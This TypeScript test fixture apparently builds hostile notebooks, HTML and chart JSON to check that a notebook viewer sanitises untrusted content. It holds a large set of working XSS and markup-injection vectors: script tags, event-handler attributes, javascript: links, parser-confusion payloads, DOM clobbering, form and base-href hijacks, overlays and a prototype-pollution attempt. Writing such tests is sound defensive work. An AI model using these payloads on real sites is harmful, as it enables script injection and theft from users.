/** How a text of somebody else's notebook tells that a script of it has run. */
const ran = (what: string) => `(window.pwned=(window.pwned||[])).push('${what}')`;

/**
 * Markup that would run a script, ask the host of that address, lead away from the page, lie over it, or pass for one of
 * its own elements.
 */
export function hostileMarkup(stranger: string): string[] {
  return [
    `<script>${ran("script")}</script>`,
    `<script src="${stranger}/script"></script>`,
    `<img src="data:image/png,x" alt="a" onerror="${ran("onerror")}">`,
    `<svg onload="${ran("svg")}"><script>${ran("svg script")}</script><a xlink:href="javascript:${ran("svg link")}"><text>t</text></a></svg>`,
    `<svg><style><img src="data:image/png,x" alt="x" onerror="${ran("svg style")}"></style></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img alt="m" title="--&gt;&lt;img src=data:image/png,x alt=x onerror=${ran("math")}&gt;">`,
    `<iframe srcdoc="<script>parent.${ran("srcdoc").slice(1)}</script>"></iframe><iframe src="${stranger}/frame"></iframe>`,
    `<object data="${stranger}/object"></object><embed src="${stranger}/embed"><applet code="x"></applet>`,
    `<p><a class="bait" href="javascript:${ran("href")}">script</a> <a class="bait" href="jav&#x09;ascript:${ran("tab")}">tab</a></p>`,
    `<p><a class="bait" href="data:text/html,<script>1</script>" target="_top">data</a> <a href="${stranger}/ping" ping="${stranger}/pinged" target="_blank" rel="opener">out</a></p>`,
    `<style>body { display: none !important } @import "${stranger}/import";</style><link rel="stylesheet" href="${stranger}/css">`,
    `<link rel="prefetch" href="${stranger}/prefetch"><link rel="dns-prefetch" href="${stranger}"><link rel="preload" as="script" href="${stranger}/preload"><link rel="manifest" href="${stranger}/manifest">`,
    `<meta http-equiv="refresh" content="0;url=${stranger}/refresh"><base href="${stranger}/base/">`,
    `<form action="${stranger}/form" id="notebook" name="notebook"><input name="cells" autofocus onfocus="${ran("onfocus")}"><button class="live-button">Run all</button></form>`,
    `<details open ontoggle="${ran("ontoggle")}"><summary>s</summary>folded</details>`,
    `<video src="${stranger}/video" autoplay onerror="${ran("video")}"></video><audio src="${stranger}/audio"></audio><picture><source srcset="${stranger}/srcset"><img src="data:image/png,x" alt="b" srcset="${stranger}/set 2x"></picture>`,
    `<p style="background-image:url(${stranger}/style)" onclick="${ran("onclick")}" onmouseover="${ran("over")}">kept</p>`,
    `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background-color:red">over all</div>`,
    `<div style="margin-top:-5000px;height:6000px;background-color:red">drawn up</div>`,
    `<div style="height:0;line-height:0"><div style="height:9000px;background-color:red"><b style="font-size:900px">below</b></div></div>`,
    `<div class="bar live-bar skip theme" style="transform:scale(99)">looks like the bar</div><button class="theme">Dark</button>`,
    `<img id="puzzleWorker" name="puzzleWorker" src="data:image/png,x" alt="c"><p id="puzzleSearch">d</p><p id="found">e</p><p id="chapter">f</p>`,
    `<h2 id="notebook">notebook</h2><h2 id="cell-run">cell</h2><h3 id="puzzleSearch">search</h3><h3 id="process">p</h3><h3 id="module">m</h3><h3 id="Plotly">P</h3>`,
    `<template><script>${ran("template")}</script></template><noscript><p title="</noscript><img src=data:image/png,x alt=x onerror=${ran("noscript")}>"></noscript>`,
    `<xmp><p title="</xmp><img src=data:image/png,x alt=x onerror=${ran("xmp")}>"></xmp><textarea><p title="</textarea><img src=data:image/png,x alt=x onerror=${ran("textarea")}>"></textarea>`,
    `<!--><img src="data:image/png,x" alt="g" onerror="${ran("comment")}">--><![CDATA[><img src=data:image/png,x alt=x onerror=${ran("cdata")}>]]><?php ><img src=data:image/png,x alt=x onerror=${ran("instruction")}>?>`,
    `<p></div></div></main></div><script>${ran("outside")}</script><img src="data:image/png,x" alt="h" onerror="${ran("outside image")}"></p>`,
    `<table background="${stranger}/background"><tr><td><div>i<td>j</table><isindex action="${stranger}/isindex"><keygen>`,
    `<a href="#" class="bait" onclick="${ran("anchor")}" onfocus="${ran("anchor focus")}" autofocus tabindex="0">anchor</a>`,
    `<progress value="1" max="2" onanimationstart="${ran("animation")}" style="animation:x 1s"></progress>`,
  ];
}

/** Figures as the library writes them, with data that nobody's library has written. */
const hostileFigures = (stranger: string) => [
  `<figure id="play-00000001"><figcaption>Play</figcaption><ul style="display:flex"><li>still</li></ul>
<script type="application/json">${JSON.stringify({
    look: {
      ground: `${stranger}/ground`,
      pictures: [`javascript:${ran("picture")}`],
      faces: [
        null,
        {
          picture: 0,
          text: `<img src=data:image/png,x alt=x onerror=${ran("face")}>`,
          ink: `url(${stranger}/ink)`,
        },
      ],
      width: "1;position:fixed",
      height: 1,
      shown: "9999px;height:9999px;position:fixed;top:0;left:0;z-index:99999;background:red;x:",
      side: 1,
      places: [[1, 1]],
      rows: [[0]],
    },
    rule: { kind: "press", patterns: [[0]] },
    goal: {},
    starts: [{ name: `<img src=data:image/png,x alt=x onerror=${ran("start")}>`, board: [1] }],
    values: { names: ["a", `<img src=data:image/png,x alt=x onerror=${ran("name")}>`] },
    style: {},
    unit: `<img src=data:image/png,x alt=x onerror=${ran("unit")}>`,
    solver: { module: "__proto__", name: "constructor", args: [ran("solver")] },
  }).replaceAll("<", "\\u003c")}</script>
<script>${ran("figure script")}</script></figure>`,
  `<figure id="chart-00000002"><img src="data:image/png,x" alt="chart"><script type="application/json">${JSON.stringify(
    {
      data: [
        { type: "scatter", x: [1, 2], y: [1, 2], name: `<a href="javascript:${ran("trace")}">t</a>` },
        { type: "scattergeo", lon: [1], lat: [1] },
      ],
      layout: {
        height: 300,
        images: [{ source: `${stranger}/plotly`, x: 0, y: 1, sizex: 1, sizey: 1 }],
        title: {
          text: `<a href="javascript:${ran("title")}">t</a><img src=data:image/png,x alt=x onerror=${ran("plotly")}>`,
        },
      },
      axes: { linear: {} },
      zero: 0,
      scale: "linear",
    },
  ).replaceAll("<", "\\u003c")}</script></figure>`,
  `<figure id="chart-00000004"><img src="data:image/png,x" alt="chart"><script type="application/json">${JSON.stringify(
    {
      data: [{ type: "scatter", x: [1, 2], y: [1, 2] }],
      layout: { height: 300, title: { text: `<a href="${stranger}/top" target="_top">away</a>` } },
      ...{ axes: { linear: {} }, zero: 0, scale: "linear" },
    },
  ).replaceAll("<", "\\u003c")}</script></figure>`,
  `<figure id="watch-00000005"><figcaption>Large</figcaption><section>still</section><script type="application/json">${JSON.stringify(
    {
      runs: [
        {
          ...{
            name: "large",
            width: 100,
            height: 100,
            nodes: 3e8,
            columns: 2,
            x: "??",
            y: "??",
            parents: "",
          },
          ...{ depths: "", bounds: "", path: "", counters: ["nodes"], steps: "??" },
        },
      ],
      ...{ main: 0, texts: {}, shapes: ["h1"], names: ["a"], code: [], lines: [], stroke: 1 },
    },
  )}</script></figure>`,
  `<figure id="strip-00000003"><script type="application/json">no JSON</script></figure>`,
  `<figure id="cell-run"><script type="application/json">{}</script></figure>`,
];

/** A notebook of a stranger who has read this project's source. */
export function hostileNotebook(stranger: string): object {
  const pieces = hostileMarkup(stranger);
  const displayed = (type: string) => (text: string) => ({
    output_type: "display_data",
    data: { [type]: text },
    metadata: { [`"><script>${ran("output metadata")}</script>`]: 1 },
  });
  const attack = `</script></textarea><img src=data:image/png,x alt=x onerror="${ran("text")}">`;
  const cover = `data:image/png,"><script>${ran("cover")}</script>`;
  const replacement = `<script type="application/json" id="notebook">{"name":"x","metadata":{},"cells":[{"cell_type":"code","id":"run","source":"'not what stands there'"}]}</script>`;
  const code = (id: string, source: string, outputs: object[]) => ({
    ...{
      cell_type: "code",
      id,
      metadata: { tags: [attack.replace(",", "/"), "cover"] },
      source,
      outputs,
      execution_count: 1,
    },
  });
  return {
    cells: [
      {
        cell_type: "markdown",
        id: "text",
        metadata: { [attack]: attack },
        attachments: {
          "a.svg": { [`image/svg+xml" onload="${ran("attachment")}`]: "PHN2Zz4=" },
          "b.svg": {
            "image/svg+xml": Buffer.from(`<svg onload="${ran("svg image")}"/>`).toString("base64"),
          },
        },
        source: `# ${attack}\n\nSentence ${attack}.\n\n![b](attachment:b.svg)\n\n${pieces.join("\n\n")}\n\n\`\`\`"><script>${ran("fence")}</script>\n1\n\`\`\`\n\n[a](javascript:${ran("markdown")} "x' onfocus='${ran("markdown title")}")`,
      },
      ...[{}, { raw_mimetype: "text/html" }, { format: "text/html" }].map((metadata, index) => ({
        ...{ cell_type: "raw", id: `raw-${index}`, metadata, source: [...pieces, replacement].join("\n") },
      })),
      code("run", "[1, 2].length", [{ output_type: "stream", name: "stdout", text: `\u001b[31m${attack}` }]),
      code("live-bar", "2", [
        ...hostileFigures(stranger).map(displayed("text/html")),
        displayed("text/html")(
          `<img alt="c" width="300" height="300" src='${cover.replaceAll("'", "&#39;")}'>`,
        ),
      ]),
      code("html", "3", pieces.map(displayed("text/html"))),
      code("markdown", "4", pieces.map(displayed("text/markdown"))),
      code("error", "5", [
        {
          output_type: "error",
          ename: attack,
          evalue: attack,
          traceback: [`\u001b[0;31m${attack}\u001b[0m`, attack],
        },
        displayed("text/plain")(attack),
      ]),
    ],
    metadata: {
      kernelspec: { name: attack, display_name: attack, language: attack },
      language_info: { name: `"><script>${ran("language")}</script>`, pygments_lexer: attack },
      title: attack,
    },
    nbformat: 4,
    nbformat_minor: 5,
  };
}

/** What no notebook may have: its page is not to run it, either. */
export function invalidNotebook(): object {
  const id = `x" onfocus="${ran("cell id")}" autofocus tabindex="0`;
  const count = `"><script>${ran("count")}</script>`;
  const cell = { cell_type: "code", id, metadata: {}, source: "1", outputs: [], execution_count: count };
  return { cells: [cell], metadata: {}, nbformat: 4, nbformat_minor: 5 };
}
